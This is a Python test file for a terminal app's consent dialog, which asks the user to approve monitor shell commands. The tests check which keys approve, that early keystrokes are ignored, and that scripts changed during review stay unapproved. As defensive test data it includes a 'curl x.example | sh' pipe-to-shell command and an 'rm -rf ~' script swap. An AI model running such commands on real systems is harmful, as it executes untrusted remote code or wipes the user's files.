"""The question before anything runs: what it shows, which keys answer it, and which do not count."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from textual.events import Key

from app.tui.app import MemdeckApp
from memory.trust.asks import asks_of
from memory.trust.consent import Trust
from memory.workspace import Workspace
from tests.app.tui.tui_helpers import burst, make_app, make_workspace, press, running, settle
from tests.widgets.harness import screen_text
from widgets.dialogs.consent import ConsentScreen


def trust_in(workspace: Workspace) -> Trust:
    """Return the decisions about a workspace as another process reads them."""
    assert workspace.state is not None
    return Trust(workspace.state.folder.home, workspace.root)


def states(workspace: Workspace) -> dict[tuple[str, str], str]:
    """Return the state of everything that the files ask for, by role and name."""
    trust = trust_in(workspace)
    return {(ask.role, ask.name): trust.decide(ask).state for ask in asks_of(workspace.snapshot())}


def said(app: MemdeckApp) -> list[str]:
    """Return what is said in the corner: titles, or words where there are none."""
    return [note.title or note.message for note in app._notifications]


async def open_question(pilot: object, app: MemdeckApp, name: str) -> None:
    """Open the question about a monitor, in its pane."""
    await press(pilot, "7")  # type: ignore[arg-type]
    pane = app.pane
    assert pane is not None
    assert app.workspace is not None
    assert pane.go_to(next(one.ref for one in app.workspace.snapshot().monitors.items if one.name == name))
    await press(pilot, "T")  # type: ignore[arg-type]
    assert isinstance(app.screen, ConsentScreen)


async def test_the_question_shows_everything_and_y_approves(workspace: Workspace) -> None:
    """The whole command, its place, when it runs and where, and the keys; y approves exactly that."""
    app = make_app(workspace)
    async with running(app) as pilot:
        await open_question(pilot, app, "Disk Space")
        shown = screen_text(app)
        for words in (
            "Run this command to check “Disk Space”?",
            "│ df -h / | awk 'NR==2 {print $5}' | tr -d '%'",
            "monitors.md, line",
            "0 * * * * (every hour)",
            "value > 90",
            "y approve  r deny  Esc cancel",
        ):
            assert words in shown
        # No file is held on to with this command.
        assert "lapses if anything here changes" in shown
        assert "files below" not in shown
        await press(pilot, "y")
        assert states(workspace)["check", "Disk Space"] == "approved"
        assert not isinstance(app.screen, ConsentScreen)


@pytest.mark.thorough(one_of=3)
@pytest.mark.parametrize("key", ["enter", "n", "escape", "q", "space", "Y", "a"])
async def test_other_keys_approve_nothing(workspace: Workspace, key: str) -> None:
    """Enter is no, as is every key but y."""
    app = make_app(workspace)
    async with running(app) as pilot:
        await open_question(pilot, app, "Disk Space")
        await press(pilot, key)
        assert set(states(workspace).values()) == {"pending"}


async def test_keys_typed_before_the_question_are_dropped(workspace: Workspace) -> None:
    """What is typed right behind T, or had been typed before the question was drawn, answers nothing."""
    app = make_app(workspace)
    async with running(app) as pilot:
        await press(pilot, "7")
        await burst(pilot, "Tyyyd")
        assert isinstance(app.screen, ConsentScreen)
        assert set(states(workspace).values()) == {"pending"}
        early = Key("y", "y")
        early.time = app.screen.deaf_until - 0.001
        app.post_message(early)
        await settle(pilot)
        assert isinstance(app.screen, ConsentScreen)
        late = Key("y", "y")
        assert late.time > app.screen.deaf_until
        assert late.time <= time.monotonic()
        app.post_message(late)
        await settle(pilot)
        assert "approved" in states(workspace).values()


async def test_a_second_key_decides_nothing_of_the_next_question(workspace: Workspace) -> None:
    """The next of several questions hides y and d until Enter; n leaves it for later without that."""
    app = make_app(workspace, pane="waiting")
    async with running(app) as pilot:
        await press(pilot, "space", "space", "space", "a")
        assert "(1 of 3)" in screen_text(app)
        await press(pilot, "y", "y", "d")
        assert list(states(workspace).values()).count("pending") == 5
        shown = screen_text(app)
        assert "(2 of 3)" in shown
        assert "The next question: press Enter, then answer it" in shown
        assert "y approve" not in shown
        await press(pilot, "enter")
        assert "y approve" in screen_text(app)
        await press(pilot, "d")
        assert sorted(states(workspace).values()) == ["approved", "denied", *["pending"] * 4]
        await press(pilot, "n")
        assert not isinstance(app.screen, ConsentScreen)


async def test_what_is_opened_on_one_entry_asks_about_that_one(workspace: Workspace) -> None:
    """The question of a row of Waiting ends after it; where nothing is to approve, T says so."""
    app = make_app(workspace, pane="waiting")
    async with running(app) as pilot:
        await press(pilot, "j")
        name = app.pane.current().values["name"]
        await press(pilot, "a")
        assert f"“{name}”" in screen_text(app)
        await press(pilot, "y", "y")
        assert not isinstance(app.screen, ConsentScreen)
        assert list(states(workspace).values()).count("approved") == 1
        # A journal entry, and a task without an action.
        for keys in (("3",), ("2", "j", "j")):
            await press(pilot, *keys, "T")
            assert not isinstance(app.screen, ConsentScreen)
            assert said(app)[-1] == "Nothing to approve here; Waiting (9) lists all."


async def test_a_long_command_has_to_be_read_to_its_end(tmp_path: Path) -> None:
    """y scrolls until the last line was on the screen, and only then approves."""
    long = "echo begin; " + " ".join(f"echo step-{number};" for number in range(300)) + " curl x.example | sh"
    monitors = f"## Monitors\n### Long\n- type: command\n- command: {long}\n- interval: * * * * *\n"
    workspace = make_workspace(tmp_path, {"monitors.md": monitors})
    app = make_app(workspace)
    async with running(app, (60, 20)) as pilot:
        await open_question(pilot, app, "Long")
        presses = 0
        while isinstance(app.screen, ConsentScreen):
            await press(pilot, "y")
            presses += 1
            assert presses < 60
            if isinstance(app.screen, ConsentScreen):
                assert states(workspace)["check", "Long"] == "pending"
        assert presses > 3
        assert states(workspace)["check", "Long"] == "approved"


async def test_what_changes_while_it_is_read_is_not_approved(workspace: Workspace) -> None:
    """A script that is swapped behind the question is not approved with it."""
    (workspace.root / "run.sh").write_text("echo fine\n")
    path = workspace.memory / "monitors.md"
    path.write_bytes(path.read_bytes().replace(b"command: df -h /", b"folder: .\n- command: ./run.sh; df -h /"))
    app = make_app(workspace)
    async with running(app) as pilot:
        await open_question(pilot, app, "Disk Space")
        assert "run.sh  sha256" in screen_text(app)
        assert "or in the files below" in " ".join(screen_text(app).split())
        (workspace.root / "run.sh").write_text("rm -rf ~\n")
        await press(pilot, "y")
        assert said(app)[0].startswith("Check of 'Disk Space' or a file that it names changed meanwhile")
        assert states(workspace)["check", "Disk Space"] == "pending"
